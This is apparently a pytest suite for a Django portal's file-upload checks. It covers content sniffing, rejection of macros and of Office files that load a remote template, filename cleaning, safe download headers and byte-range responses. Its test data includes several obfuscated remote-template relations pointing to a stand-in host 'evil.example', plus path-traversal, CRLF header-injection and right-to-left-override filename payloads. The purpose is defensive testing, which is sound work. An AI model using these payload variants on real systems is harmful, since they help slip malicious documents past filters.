"""What may come in as a file, where it is kept, and how it goes out."""

import io
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import Http404
from django.test import RequestFactory
from PIL import Image

from tenancy.files import (
    KINDS,
    UploadField,
    accept,
    attachment_response,
    check_upload,
    clean_name,
    digest,
    ranged_response,
    stored_name,
)
from tests.tenancy.hwp_files import hwp


def packed(**members: str | bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return file.getvalue()


def office(folder: str, **more: str | bytes) -> bytes:
    return packed(**{"[Content_Types].xml": "<Types/>", f"{folder}/a.xml": "<a/>"} | more)


def picture(image_format: str) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8), "teal").save(file, image_format)
    return file.getvalue()


GOOD = {
    "pdf": b"%PDF-1.7\n1 0 obj",
    "eml": b"From: a@b.example\r\nSubject: Hello\r\n\r\nText",
    "png": picture("PNG"),
    "jpeg": picture("JPEG"),
    "webp": picture("WEBP"),
    "docx": office("word"),
    "xlsx": office("xl"),
    "pptx": office("ppt"),
    "hwp": hwp("안내"),
    "hwpx": packed(mimetype="application/hwp+zip", **{"Contents/section0.xml": "<s/>"}),
    "txt": "안녕하세요".encode("cp949"),
    "csv": "名前,住所\n東海,名古屋\n".encode("cp932"),
    "zip": packed(**{"a.txt": "a"}),
    "mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 12,
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + b"\0" * 12,
    "gift": "::Q1:: 서울은 한국의 수도이다. {T}".encode(),
    "vtt": b"\xef\xbb\xbfWEBVTT\n\n00:00.000 --> 00:01.000\nA\n",
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/html")


@pytest.mark.parametrize("key", list(KINDS))
def test_each_kind_is_known_by_its_content_whatever_the_browser_says(key: str) -> None:
    for ending in KINDS[key].endings:
        file = upload(f"계획.{ending.upper()}", GOOD[key])
        assert check_upload(file, kinds=[key]) == KINDS[key].content_type
        assert file.read() == GOOD[key]  # it is still to be kept


@pytest.mark.parametrize("key", list(KINDS))
def test_what_is_not_what_its_ending_says_is_refused(key: str) -> None:
    content = b"\x00\x01<html><script>alert(1)</script></html>"
    with pytest.raises(ValidationError, match="damaged, or not what its ending says"):
        check_upload(upload(f"a.{KINDS[key].endings[0]}", content), kinds=[key])


@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.exe", "a.docm", "a", "a.pdf.js", ".htaccess", "a.xml"])
def test_other_endings_are_refused_and_the_sentence_names_what_can_be_uploaded(name: str) -> None:
    with pytest.raises(ValidationError, match=r"cannot be uploaded. What can: pdf, png, jpg, webp, docx"):
        check_upload(upload(name, GOOD["pdf"]))


def test_a_picture_is_no_pdf_where_only_pictures_are_asked_for() -> None:
    assert check_upload(upload("a.png", GOOD["png"]), kinds=["png", "jpeg"]) == "image/png"
    with pytest.raises(ValidationError, match="What can: png, jpg"):
        check_upload(upload("a.pdf", GOOD["pdf"]), kinds=["png", "jpeg"])


def test_a_document_with_macros_is_refused() -> None:
    with pytest.raises(ValidationError, match=r"“a\.docx” holds macros\. Save it without them and upload that\."):
        check_upload(upload("a.docx", office("word", **{"word/vbaProject.bin": "x"})))


KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = f'Type="{KIND}/attachedTemplate" TargetMode="External"'
ELSEWHERE = 'Target="https://evil.example/t.dotm"'


def relations(content: str | bytes) -> SimpleUploadedFile:
    """A document whose settings say this of their relations; a mere relation is put where one belongs."""
    if isinstance(content, str) and content.startswith("<Relationship "):
        content = f'<Relationships xmlns="urn:x">{content}</Relationships>'
    return upload("a.docx", office("word", **{"word/_rels/settings.xml.rels": content}))


@pytest.mark.parametrize(
    "content",
    [
        f"<Relationship Id='r' {TEMPLATE} {ELSEWHERE}/>",
        f'<Relationship Target="https://evil.example/t.dotm?a>b" {TEMPLATE}/>',
        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace('"', "'"),
        f'<p:Relationships xmlns:p="urn:x"><p:Relationship {TEMPLATE} {ELSEWHERE}/></p:Relationships>',
        f'<Relationship xmlns:p="urn:x" p:Target="t.dotm" p:TargetMode="Internal" {TEMPLATE} {ELSEWHERE}/>',
        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace("External", "&#69;xternal").replace("//", "&#x2f;/"),
        f"<Relationship {TEMPLATE} {ELSEWHERE}/>".replace("attached", "Attached").replace("https:", " HT&#10;TPS:"),
        f"<?xml version='1.0' encoding='UTF-16'?><R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-16"),
        f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-8-sig"),
        f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>".encode("utf-16-le"),
        "<!DOCTYPE R><R/>",
        f'<!DOCTYPE R [<!ENTITY t "https://evil.example/t.dotm">]><R><Relationship {TEMPLATE} Target="&t;"/></R>',
        f"<?xml version='1.0' encoding='utf-7'?><R><Relationship {TEMPLATE} {ELSEWHERE}/></R>",
        "<Relationships><Relationship></Relationships>",
        "<R/><R/>",
        "<R>" * 201 + "</R>" * 201,
        "",
    ],
)
def test_an_office_document_that_takes_a_part_of_itself_from_elsewhere_is_refused(content: str | bytes) -> None:
    says = r"“a\.docx” loads or starts something when it is opened\. Save it without that, or as a PDF\."
    with pytest.raises(ValidationError, match=says):
        check_upload(relations(content))


@pytest.mark.parametrize(
    "content",
    [
        f'<Relationship Type="{KIND}/hyperlink" Target="https://bici.example/frames/carbon" TargetMode="External"/>',
        f'<Relationship Type="{KIND}/image" Target="https://bici.example/oleObject.png?a>b" TargetMode="External"/>',
        f'<Relationship {TEMPLATE} Target="file:///S:/Templates/Letter.dotx"/>',
        f'<Relationship {TEMPLATE} Target="C:\\Templates\\Letter.dotx"/>',
        f'<Relationship Type="{KIND}/oleObject" Target="embeddings/oleObject1.bin"/>',
        f'<Relationship {TEMPLATE} Target="Letter.dotx"/><Relationship Type="{KIND}/hyperlink" {ELSEWHERE}/>',
        "<?xml version='1.0' encoding='UTF-16'?><R>가</R>".encode("utf-16"),
        "<R>" * 200 + "</R>" * 200,
        "<?xml version='1.0' encoding='utf-8' standalone='yes'?>\r\n<R/>".encode("utf-8-sig"),
    ],
)
def test_an_office_document_may_link_to_others_and_name_the_template_of_the_house(content: str | bytes) -> None:
    assert check_upload(relations(content)).endswith("wordprocessingml.document")


@pytest.mark.parametrize(
    ("begin", "repeated", "end", "is_taken"),
    [
        ("<", "Relationship ", "", False),
        ("", "<Relationship>", "", False),
        ("<R>", "  " * 1024, "</R>", False),
        ('<R Target="', "Relationship ", '"/>', True),
        ("<R>", "<Relationship/>", "</R>", True),
    ],
)
def test_relations_made_to_keep_the_portal_busy_do_not(begin: str, repeated: str, end: str, is_taken: bool) -> None:
    file = relations(begin + repeated * max(2048, 2 * 1024 * 1024 // len(repeated)) + end)
    if is_taken:
        assert check_upload(file).endswith("wordprocessingml.document")
        return
    with pytest.raises(ValidationError, match="loads or starts"):
        check_upload(file)


def test_relations_that_stand_in_a_document_twice_are_both_looked_at() -> None:
    file = io.BytesIO(office("word"))
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", f"<R><Relationship {TEMPLATE} {ELSEWHERE}/></R>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr("word/_rels/settings.xml.rels", "<R/>")
    with pytest.raises(ValidationError, match="loads or starts"):
        check_upload(upload("a.docx", file.getvalue()))


@pytest.mark.parametrize(
    ("member", "says"), [("[Content_Types].xml", "is damaged"), ("word/_rels/settings.xml.rels", "loads or starts")]
)
def test_an_office_document_that_is_damaged_within_is_refused(member: str, says: str) -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", "word/a.xml", "word/_rels/settings.xml.rels"):
            archive.writestr(name, "<Types/>")
        begins = archive.getinfo(member).header_offset + 30 + len(member)
    content = bytearray(file.getvalue())
    content[begins] = 0xFF  # no kind of block that there is
    with pytest.raises(ValidationError, match=says):
        check_upload(upload("a.docx", bytes(content)))


def test_what_is_too_large_or_empty_is_refused() -> None:
    with pytest.raises(ValidationError, match=r"has 11\\xa0bytes, and at most 10\\xa0bytes can be"):
        check_upload(upload("a.txt", b"x" * 11), max_bytes=10)
    with pytest.raises(ValidationError, match=r"“a\.txt” is empty"):
        check_upload(upload("a.txt", b""))


def test_a_picture_that_would_fill_the_memory_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 20)
    with pytest.raises(ValidationError, match="damaged"):
        check_upload(upload("a.png", GOOD["png"]))


@pytest.mark.parametrize(
    ("given", "cleaned"),
    [
        ("견적서.pdf", "견적서.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\kim\\plan.xlsx", "plan.xlsx"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        ("  two\u3000 words .pdf ", "two words .pdf"),
        ("...", "file"),
        ("", "file"),
        ("/", "file"),
        ("か\u3099.txt", "が.txt"),
        ("가" * 300 + ".pdf", "가" * 146 + ".pdf"),
    ],
)
def test_names_are_cleaned(given: str, cleaned: str) -> None:
    assert clean_name(given) == cleaned


def test_nobody_can_guess_where_a_file_is_kept_and_long_names_fit_a_file_system() -> None:
    one, two = stored_name(7, "cabinet", "../가.pdf"), stored_name(7, "cabinet", "../가.pdf")
    assert one != two
    assert one.startswith("7/cabinet/")
    assert one.endswith("/가.pdf")
    assert len(one.split("/")[2]) == 32
    name = stored_name(7, "cabinet", "가" * 300 + ".pdf").rsplit("/", 1)[1]
    assert len(name.encode()) <= 120
    assert name.endswith(".pdf")


def test_the_digest_leaves_the_file_at_its_beginning() -> None:
    file = upload("a.txt", b"abc")
    assert digest(file) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
    assert file.read() == b"abc"


@pytest.mark.parametrize(
    ("content_type", "served"),
    [
        ("application/pdf", "application/pdf"),
        ("text/html", "application/octet-stream"),
        ("image/svg+xml", "application/octet-stream"),
        ("", "application/octet-stream"),
    ],
)
def test_a_file_goes_out_as_a_download_and_never_as_a_page(content_type: str, served: str) -> None:
    response: Any = attachment_response(io.BytesIO(b"x"), name="견적 「1」.pdf", content_type=content_type)
    assert response.headers["Content-Type"] == served
    assert response.headers["Content-Disposition"] == (
        "attachment; filename*=utf-8''%EA%B2%AC%EC%A0%81%20%E3%80%8C1%E3%80%8D.pdf"
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.headers["Cache-Control"] == "private, no-store"


def test_a_name_cannot_break_out_of_its_header() -> None:
    response = attachment_response(io.BytesIO(b"x"), name='a"; filename="b.html\r\nX: y.pdf')
    assert response.headers["Content-Disposition"] == r'attachment; filename="a\"; filename=\"b.htmlX: y.pdf"'


@pytest.mark.django_db
def test_a_file_that_is_gone_does_not_exist() -> None:
    from jobs.models import Job

    job = Job()
    with pytest.raises(Http404):
        attachment_response(job.result_file, name="a.csv")
    job.result_file.save("7/gone/a.csv", ContentFile(b"a"), save=False)
    response = attachment_response(job.result_file, name="a.csv")
    assert response.getvalue() == b"a"
    response.close()
    job.result_file.storage.delete(job.result_file.name)
    with pytest.raises(Http404):
        attachment_response(job.result_file, name="a.csv")


def test_a_form_field_checks_its_file_and_says_what_it_is() -> None:
    field = UploadField(kinds=["pdf", "jpeg"])
    assert field.widget.attrs["accept"] == accept(["pdf", "jpeg"]) == ".pdf,.jpg,.jpeg"
    assert field.clean(upload("a.pdf", GOOD["pdf"])).checked_type == "application/pdf"
    with pytest.raises(ValidationError, match="Choose a file"):
        field.clean(None)
    with pytest.raises(ValidationError, match="cannot be uploaded"):
        field.clean(upload("a.txt", b"x"))
    assert UploadField(required=False).clean(None) is None


@pytest.mark.parametrize(
    ("asked", "status", "told", "got"),
    [
        ("", 200, None, b"0123456789"),
        ("bytes=2-4", 206, "bytes 2-4/10", b"234"),
        ("bytes=7-", 206, "bytes 7-9/10", b"789"),
        ("bytes=-3", 206, "bytes 7-9/10", b"789"),
        ("bytes=8-99", 206, "bytes 8-9/10", b"89"),
        ("bytes=-99", 206, "bytes 0-9/10", b"0123456789"),
        ("bytes=10-", 416, "bytes */10", b""),
        ("bytes=4-2", 416, "bytes */10", b""),
        ("bytes=-0", 416, "bytes */10", b""),
        ("bytes=0-1,4-5", 200, None, b"0123456789"),
        ("lines=1-2", 200, None, b"0123456789"),
    ],
)
def test_a_player_gets_the_piece_that_it_asks_for(
    asked: str, status: int, told: str | None, got: bytes, rf: RequestFactory
) -> None:
    request = rf.get("/", headers={"Range": asked} if asked else {})
    response: Any = ranged_response(request, io.BytesIO(b"0123456789"), name="a.mp4", content_type="video/mp4")
    assert (response.status_code, response.headers.get("Content-Range")) == (status, told)
    assert response.getvalue() == got
    if status != 416:
        assert response["Content-Length"] == str(len(got))
        assert response["X-Content-Type-Options"] == "nosniff"
